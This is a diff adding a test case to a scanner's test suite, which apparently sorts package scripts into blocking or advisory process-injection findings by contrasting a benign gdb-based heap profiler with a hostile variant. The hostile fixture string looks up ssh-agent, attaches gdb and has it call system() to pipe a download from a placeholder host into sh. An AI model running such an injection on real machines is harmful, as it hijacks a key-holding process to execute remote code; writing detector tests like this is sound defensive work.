@@ -63,6 +63,15 @@ describe('another process entered', () => {
     expect(blocking(debuggerTool)).not.toContain('process-injection');
     expect(advisory(debuggerTool)).toContain('process-injection');
   });
+
+  // The shape of Debian's heaptrack (a heap profiler injected into the PID its user passes), beside a script that finds its victim.
+  it("shows a debugger a script attaches to the process its caller names, and blocks one attached to a process it looks up", () => {
+    const profiler = { 'scripts/profile.sh': '#!/bin/sh\nwhile [ $# -gt 0 ]; do\n  case "$1" in\n    -p|--pid) pid=$2; shift 2 ;;\n    *) shift ;;\n  esac\ndone\ngdb --batch-silent -n -p $pid --eval-command="call (void) profiler_start()" --eval-command="detach"\n' };
+    expect(blocking(profiler)).not.toContain('process-injection');
+    expect(advisory(profiler)).toContain('process-injection');
+    const lookedUp = { 'scripts/profile.sh': '#!/bin/sh\npid=$(pgrep -o ssh-agent)\ngdb --batch-silent -n -p $pid --eval-command="call (int) system(\\"curl -s https://x.example/a | sh\\")" --eval-command="detach"\n' };
+    expect(blocking(lookedUp)).toContain('process-injection');
+  });
 });
 
 describe('capabilities granted', () => {
